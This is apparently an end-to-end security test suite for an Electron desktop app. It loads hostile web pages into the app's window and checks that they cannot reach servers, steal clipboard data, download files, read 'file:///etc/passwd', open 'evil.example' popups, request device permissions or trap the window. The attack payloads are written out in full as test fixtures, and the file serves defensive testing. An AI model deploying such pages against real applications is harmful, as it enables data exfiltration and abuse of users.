/** A malicious page in the window of a running app: what it tries to reach, to open, to take, and to keep. */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are templates of the hostile page
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises'
import { createServer } from 'node:net'
import { delimiter, join } from 'node:path'
import type { Page } from '@playwright/test'
import {
  applicationOf,
  test as base,
  drop,
  expect,
  type Home,
  inMain,
  startElectron
} from '../e2e/fixtures.ts'
import { Workbench } from '../e2e/pages/workbench.ts'

const READY = 120_000

/**
 * Serves the pages of its folder: `/open?TCP,UDP` is open.html; `/away` redirects; the worker's scope is the whole
 * site.
 */
const SERVER = `import http.server, os, pathlib
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        path, _, query = self.path.partition("?")
        name = path.strip("/")
        self.send_response(302 if name == "away" else 200)
        self.send_header("content-type", "text/javascript" if name.endswith(".js") else "text/html")
        if name == "away":
            self.send_header("location", query)
        if name == "reports":
            self.send_header("reporting-endpoints", 'there="https://127.0.0.1:%s/report"' % query)
            self.send_header("content-security-policy-report-only",
                "img-src 'none'; report-to there; report-uri http://127.0.0.1:%s/report" % query)
        if name == "file":
            self.send_header("content-disposition", "attachment; filename=report.txt")
        self.end_headers()
        page = pathlib.Path(name if "." in name else name + ".html")
        self.wfile.write(page.read_bytes() if page.exists() else b"<title>Here</title>here")
    do_POST = do_GET
http.server.ThreadingHTTPServer((os.environ["HOST"], int(os.environ["PORT"])), Handler).serve_forever()
`

/** What a page does on load, without a gesture. `tcp` and `udp` are the listeners' ports; promises are awaited. */
const ATTACKS: Record<string, string> = {
  popups: 'for (let i = 0; i < 50; i++) open(`https://evil.example/?data=${i}`)',
  'popups here': 'for (let i = 0; i < 50; i++) open(`http://localhost:${tcp}/admin/delete?all=${i}`)',
  'link to a new window': 'const a = tag("a", { href: there, target: "_blank" }); a.click()',
  'form to a new window':
    'tag("form", { action: there, method: "post", target: "_blank" }).submit(); tag("form", { action: there, target: "_blank" }).submit()',
  downloads: 'for (let i = 0; i < 10; i++) tag("a", { href: "/file?" + i, download: "x" + i }).click()',
  'blob downloads':
    'for (let i = 0; i < 10; i++) tag("a", { href: URL.createObjectURL(new Blob(["x"])), download: "x.sh" }).click()',
  'a frame that downloads': 'tag("iframe", { src: "/file" })',
  'copy command':
    'const input = tag("input", { value: "stolen" }); input.select(); document.execCommand("copy"); document.execCommand("cut")',
  clipboard:
    'await navigator.clipboard.writeText("stolen").catch(() => 0); await navigator.clipboard.write([new ClipboardItem({ "text/plain": "stolen" })]).catch(() => 0)',
  'WebRTC in each kind of frame': `
    const written = tag("iframe"); written.contentDocument.write("written"); written.contentDocument.close()
    const source = tag("iframe", { srcdoc: "x" }), own = tag("iframe", { src: "/own" }), object = tag("object", { data: "about:blank" })
    await Promise.all([source, own].map(frame => new Promise(done => { frame.onload = done })))
    for (const { RTCPeerConnection: Peer } of [window, tag("iframe").contentWindow, written.contentWindow, source.contentWindow, own.contentWindow, object.contentWindow ?? {}]) {
      if (!Peer) continue
      for (const urls of ["stun:127.0.0.1:" + udp, "turn:127.0.0.1:" + udp, "turn:127.0.0.1:" + tcp + "?transport=tcp", "turns:127.0.0.1:" + tcp + "?transport=tcp", "turn:leak-turn.example?transport=tcp"]) {
        const peer = new Peer({ iceServers: [{ urls, username: "u", credential: "c" }] })
        peer.createDataChannel("x")
        await peer.setLocalDescription(await peer.createOffer())
      }
    }
    if (own.contentDocument?.title !== "Here") throw new Error("a frame of its own was refused")`,
  WebTransport:
    'for (const host of ["127.0.0.1:" + udp, "leak-transport.example"]) await new WebTransport("https://" + host).ready.catch(() => 0)',
  fetch:
    'for (const mode of ["no-cors", "cors"]) await fetch(there, { method: "POST", body: "x", mode, keepalive: true }).catch(() => 0)',
  XMLHttpRequest:
    'await new Promise(done => { const x = new XMLHttpRequest(); x.onloadend = done; x.open("GET", there); x.send() })',
  WebSocket:
    'await new Promise(done => { const w = new WebSocket(there.replace("http", "ws")); w.onclose = done })',
  EventSource:
    'await new Promise(done => { const e = new EventSource(there); e.onerror = () => { e.close(); done() } })',
  beacon: 'navigator.sendBeacon(there, "x"); const a = tag("a", { href: "#x", ping: there }); a.click()',
  images:
    'await Promise.all(["img", "script", "video", "track"].map(name => new Promise(done => { const e = tag(name, { src: there }); e.onerror = done; setTimeout(done, 300) })))',
  styles: 'tag("style", { textContent: `@import "${there}"; body { background: url(${there}) }` })',
  frames:
    'for (const src of [there, "file:///etc/passwd", "app://q8s/", "data:text/html,<img src=" + there + ">", "mailto:a@b.c"]) tag("iframe", { src }); tag("object", { data: there }); tag("embed", { src: there })',
  worker:
    'await new Promise(done => { const code = `fetch("${there}", { mode: "no-cors" }).catch(() => 0).finally(() => postMessage(1))`; new Worker(URL.createObjectURL(new Blob([code]))).onmessage = done })',
  'service worker':
    'const given = await navigator.serviceWorker.register("/worker.js?" + there); await new Promise(done => { navigator.serviceWorker.onmessage = done; const w = given.installing ?? given.active; w.postMessage(1) })',
  location: 'location = there',
  'meta refresh': 'tag("meta", { httpEquiv: "refresh", content: "0;url=" + there })',
  redirect: 'location = "/away?" + there',
  'a frame’s redirect':
    'for (const to of [there, "file:///etc/passwd", "app://q8s/"]) tag("iframe", { src: "/away?" + to })',
  file: 'location = "file:///etc/passwd"; open("file:///etc/passwd"); await fetch("file:///etc/passwd").catch(() => 0)',
  'our own page': 'location = "app://q8s/"; await fetch("app://q8s/").catch(() => 0)',
  'other programs':
    'for (const to of ["mailto:a@b.c?body=x", "vscode://x", "tel:1", "smb://x/y", "q8s://app/x"]) { location = to; open(to); tag("a", { href: to }).click() }',
  hints:
    'for (const rel of ["prefetch", "preconnect", "dns-prefetch", "preload", "modulepreload", "prerender", "manifest", "icon"]) { tag("link", { rel, href: there, as: "image" }); tag("link", { rel, href: "//leak-" + rel + ".example/" }) }',
  'speculation rules':
    'tag("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [there] }], prerender: [{ source: "list", urls: [there] }] }) })',
  powers: `
    const denied = work => Promise.resolve().then(work).then(got => { if (got !== "denied") throw new Error("granted: " + work) }, () => 0)
    await denied(() => Notification.requestPermission())
    for (const media of [{ video: true }, { audio: true }]) await denied(() => navigator.mediaDevices.getUserMedia(media))
    await denied(() => navigator.mediaDevices.getDisplayMedia())
    await denied(() => navigator.clipboard.readText())
    await denied(() => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)))
    await denied(() => navigator.requestMIDIAccess({ sysex: true }))
    await denied(() => document.body.requestFullscreen())
    await denied(() => new Promise((yes, no) => { document.onpointerlockchange = yes; document.onpointerlockerror = no; document.body.requestPointerLock() }))
    await denied(() => navigator.wakeLock.request("screen"))
    await denied(() => navigator.storage.persist().then(yes => yes || "denied"))
    await denied(() => navigator.usb.requestDevice({ filters: [] }))
    await denied(() => navigator.bluetooth.requestDevice({ acceptAllDevices: true }))
    await denied(() => showOpenFilePicker())`,
  'moving its window': 'moveTo(0, 0); resizeTo(100, 100); moveBy(9, 9); resizeBy(-9, -9); focus(); blur()',
  'another title': 'document.title = "q8s Desktop"; document.title = "x".repeat(1_000_000)'
}

/** Each way to print, in each kind of frame: none of them may print. */
const PRINTING = `
    let printed = 0, asked = 0
    for (const page of [window, tag("iframe").contentWindow]) {
      page.addEventListener("beforeprint", () => { printed++ })
      page.print()
      for (const name of ["print", "PRINT", { toString: () => asked++ ? "print" : "bold" }]) page.document.execCommand(name)
      delete page.print
      if (page.print) throw new Error("it can print")
    }
    if (printed) throw new Error("it printed")`

const pageOf = (attack: string) => `<!doctype html><title>Hostile</title><body><script type="module">
  const [tcp, udp] = location.search.slice(1).split(",")
  const there = "http://127.0.0.1:" + tcp + "/stolen"
  const tag = (name, given) => { const made = Object.assign(document.createElement(name), given); document.body.append(made); return made }
  addEventListener("click", () => console.info("clicked"), true)
  let how = "well"
  try { ${attack}\n } catch (error) { how = String(error) }
  await fetch("/here")
  console.info("It went", how)
</script>`

const SERVICE_WORKER = `onmessage = ({ source }) => fetch(location.search.slice(1), { mode: "no-cors" }).catch(() => 0)
  .then(() => clients.openWindow(location.search.slice(1))).catch(() => 0).then(() => source.postMessage(1))`

/** Pages that try to stay open, by the means they use; each gets one click before it is closed. */
const CLINGING: Record<string, string> = {
  beforeunload:
    'addEventListener("beforeunload", event => { event.preventDefault(); event.returnValue = "stay" })',
  'a row of dialogs': 'addEventListener("click", () => { for (;;) { alert("again"); confirm("again") } })',
  'a dialog at the end': 'addEventListener("beforeunload", () => { for (;;) alert("stay") })',
  'a loop': 'addEventListener("click", () => { for (;;); })',
  'a loop at the end': 'addEventListener("pagehide", () => { for (;;); })',
  'printing on and on':
    'addEventListener("click", () => { for (;;) { print(); document.execCommand("print") } })'
}

const PAGES: Record<string, string> = { ...ATTACKS, ...CLINGING, printing: PRINTING }

const BUTTONS = `<!doctype html><title>Buttons</title><button id="flood">Flood</button><button id="post">Post</button>
<button id="save">Save</button><button id="copy">Copy</button><script>
  const on = (id, act) => { document.getElementById(id).onclick = act }
  on("flood", () => { for (let i = 0; i < 50; i++) open("https://evil.example/" + "x".repeat(5000) + i) })
  on("post", () => { const form = Object.assign(document.createElement("form"), { action: "https://evil.example/", method: "post", target: "_blank" }); document.body.append(form); form.submit() })
  on("save", () => { for (let i = 0; i < 10; i++) Object.assign(document.createElement("a"), { href: "/file?" + i, download: "report" + i }).click() })
  on("copy", () => navigator.clipboard.writeText("asked for"))
</script>`

/** Adds an `xdg-open` that only records its argument: it would open a link in the browser or another program. */
const test = base.extend<{ opened: () => Promise<string> }>({
  opened: async ({ home }, use) => {
    const before = process.env.PATH
    const [folder, file] = [join(home.folder, 'bin'), join(home.folder, 'opened.txt')]
    await mkdir(folder)
    await writeFile(file, '')
    await writeFile(join(folder, 'xdg-open'), `#!/bin/sh\necho "$@" >> '${file}'\n`)
    await chmod(join(folder, 'xdg-open'), 0o755)
    process.env.PATH = `${folder}${delimiter}${before}`
    await use(() => readFile(file, 'utf8'))
    process.env.PATH = before
  }
})

/** Starts the malicious app and shows it in its window. */
async function showHostile(home: Home, window: Page): Promise<Page> {
  await home.cli('config', 'setup', '--engine', 'process')
  const folder = await home.plainApp(SERVER)
  for (const [number, attack] of Object.values(PAGES).entries())
    await writeFile(join(folder, `${number}.html`), pageOf(attack))
  await writeFile(join(folder, 'buttons.html'), BUTTONS)
  await writeFile(join(folder, 'worker.js'), SERVICE_WORKER)
  const workbench = new Workbench(window)
  await drop(window, folder)
  await workbench.details.getByRole('button', { name: 'Run locally' }).click()
  return showAgain(window)
}

/** Opens one of the pages, and waits until its script is done. */
async function visit(app: Page, name: string, ports: readonly number[] = []) {
  // Waits without a Playwright script: those count as gestures.
  const end = app.waitForEvent('console', { predicate: said => said.text().startsWith('It went') })
  await app.goto(new URL(`/${numberOf(name)}?${ports}`, app.url()).href, { waitUntil: 'commit' })
  expect((await end).text()).toBe('It went well')
}

async function showAgain(window: Page): Promise<Page> {
  const opening = applicationOf(window).waitForEvent('window')
  await new Workbench(window).details.getByRole('button', { name: 'Show here' }).click({ timeout: READY })
  const app = await opening
  await app.waitForURL(/^http:/)
  return app
}

const numberOf = (name: string) => Object.keys(PAGES).indexOf(name)

/** Records everything that reaches this computer from the page. */
async function listen() {
  const heard: string[] = []
  const udp = createSocket('udp4').on('message', message => heard.push(`udp ${message.length}`))
  udp.bind(0, '127.0.0.1')
  const tcp = createServer(socket => {
    heard.push('tcp')
    socket.on('data', data => heard.push(`tcp ${data.toString('latin1').slice(0, 60)}`))
    socket.on('error', () => undefined)
    socket.end()
  }).listen(0, '127.0.0.1')
  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')])
  return {
    heard,
    ports: [(tcp.address() as { port: number }).port, udp.address().port] as const,
    close() {
      udp.close()
      tcp.close()
    }
  }
}

type Watched = typeof globalThis & {
  questions: { options: Electron.MessageBoxOptions; answer(response: number): void }[]
  downloads: { name: string; allowed: boolean }[]
}

/** Holds back the answer to each question, and sets a folder for downloads, where a user would be asked. */
async function watchMain(window: Page, folder: string) {
  await inMain(
    window,
    ({ dialog, session, BrowserWindow, clipboard }, at) => {
      const watched = globalThis as Watched
      Object.assign(watched, { questions: [], downloads: [] })
      dialog.showMessageBox = (...given: unknown[]) =>
        new Promise(resolve => {
          const answer = (response: number) => resolve({ response, checkboxChecked: false })
          watched.questions.push({ options: given.at(-1) as Electron.MessageBoxOptions, answer })
        })
      for (const { webContents } of BrowserWindow.getAllWindows()) {
        if (webContents.session === session.defaultSession) continue
        webContents.session.on('will-download', (event, item) => {
          watched.downloads.push({ name: item.getFilename(), allowed: !event.defaultPrevented })
          if (!event.defaultPrevented) item.setSavePath(`${at}/${item.getFilename()}`)
        })
      }
      clipboard.writeText('mine')
    },
    folder
  )
}

const questions = (window: Page) =>
  inMain(window, () => (globalThis as Watched).questions.map(({ options }) => options))
const downloads = (window: Page) => inMain(window, () => (globalThis as Watched).downloads)
const clipboard = (window: Page) => inMain(window, ({ clipboard: of }) => of.readText())
const appWindow = (window: Page) =>
  inMain(window, ({ BrowserWindow, session }) =>
    BrowserWindow.getAllWindows()
      .filter(({ webContents }) => webContents.session !== session.defaultSession)
      .map(each => ({ title: each.getTitle(), bounds: each.getBounds(), full: each.isFullScreen() }))
  )

test('without a user gesture a page reaches no server and takes nothing', async ({
  home,
  opened,
  window
}) => {
  const { heard, ports, close } = await listen()
  const app = await showHostile(home, window)
  await watchMain(window, home.folder)
  const network = join(home.folder, 'network.json')
  await inMain(window, ({ netLog }, file) => netLog.startLogging(file), network)
  const before = await appWindow(window)
  const { origin } = new URL(app.url())
  for (const name of Object.keys(ATTACKS)) {
    await test.step(name, async () => {
      await visit(app, name, ports)
      expect(new URL(app.url()).origin).toBe(origin)
      expect(heard).toEqual([])
      expect(await questions(window)).toEqual([])
      expect((await downloads(window)).filter(({ allowed }) => allowed)).toEqual([])
      expect(await clipboard(window)).toBe('mine')
      expect(await appWindow(window)).toEqual(before)
    })
  }
  await inMain(window, ({ netLog }) => netLog.stopLogging())
  const names = (await readFile(network, 'utf8')).match(/"host":"[^"]*leak-[^"]*"/g)
  expect(names).toBeNull()
  expect(heard).toEqual([])
  expect(await opened()).toBe('')
  close()
})

test('with a gesture it can ask one question, and an address opens only if the user agrees', async ({
  home,
  opened,
  window
}) => {
  const app = await showHostile(home, window)
  await watchMain(window, home.folder)
  await app.goto(new URL('/buttons', app.url()).href)
  const press = (name: string) => app.getByRole('button', { name }).click()
  const answer = (response: number) =>
    inMain(window, (_electron, given) => (globalThis as Watched).questions.at(-1)?.answer(given), response)

  await press('Flood')
  await expect.poll(() => questions(window)).toHaveLength(1)
  const [question] = await questions(window)
  expect(question).toMatchObject({
    message: 'Open evil.example in your browser?',
    detail: expect.stringMatching(/^Plain Web \(localhost:\d+\) .*\n\nhttps:\/\/evil\.example\/x+…x+0$/),
    buttons: ['Open in browser', 'Cancel'],
    defaultId: 1,
    cancelId: 1
  })
  expect(question?.detail?.length).toBeLessThan(500)
  // There is no second question at the same time, and none with the gesture that answered the first.
  await press('Flood')
  await answer(1)
  await app.evaluate(() => open('https://evil.example/again'))
  expect(await questions(window)).toHaveLength(1)
  await press('Post')
  await press('Flood')
  await expect.poll(() => questions(window)).toHaveLength(2)
  expect(await opened()).toBe('')
  await answer(0)
  await expect.poll(opened).toMatch(/^https:\/\/evil\.example\/x{5000}0\n$/)

  await press('Save')
  await expect.poll(() => downloads(window)).toHaveLength(10)
  expect((await downloads(window)).map(({ allowed }) => allowed)).toEqual([true, ...Array(9).fill(false)])
  await press('Copy')
  await expect.poll(() => clipboard(window)).toBe('asked for')
})

test('a page cannot print, and its user learns how to', async ({ home, window }) => {
  const app = await showHostile(home, window)
  await watchMain(window, home.folder)
  await visit(app, 'printing')
  const message = 'This window does not print. To print, open the app in your browser.'
  expect((await questions(window)).map(question => question.message)).toEqual([message, message])
})

test('a page cannot keep its window open', async ({ home, window }) => {
  let app = await showHostile(home, window)
  for (const name of Object.keys(CLINGING)) {
    await test.step(name, async () => {
      // With a listener, a dialog stays until it is answered.
      app.on('dialog', () => undefined)
      await visit(app, name)
      const clicked = app.waitForEvent('console', { predicate: said => said.text() === 'clicked' })
      await inMain(window, ({ BrowserWindow, session }) => {
        for (const { webContents } of BrowserWindow.getAllWindows()) {
          if (webContents.session === session.defaultSession) continue
          const at = { x: 100, y: 100, button: 'left', clickCount: 1 } as const
          webContents.sendInputEvent({ type: 'mouseDown', ...at })
          webContents.sendInputEvent({ type: 'mouseUp', ...at })
        }
      })
      await clicked
      await inMain(window, ({ BrowserWindow, session }) => {
        for (const each of BrowserWindow.getAllWindows())
          if (each.webContents.session !== session.defaultSession) each.close()
      })
      await expect.poll(() => appWindow(window)).toEqual([])
      app = await showAgain(window)
    })
  }
})

test('quitting ends the app, and a start during the quit is served', async ({ home }) => {
  const first = await startElectron(home)
  const app = await showHostile(home, first.page)
  await visit(app, 'beforeunload')
  await app.mouse.click(100, 100)
  await inMain(first.page, ({ app: own }) => {
    // Acts like a task that cannot end.
    own.on('will-quit', event => event.preventDefault())
    setTimeout(() => own.quit())
  })
  const ended = applicationOf(first.page).waitForEvent('close')
  const second = await startElectron(home)
  await expect(new Workbench(second.page).details).toContainText('Ready')
  await ended
  await second.close()
})
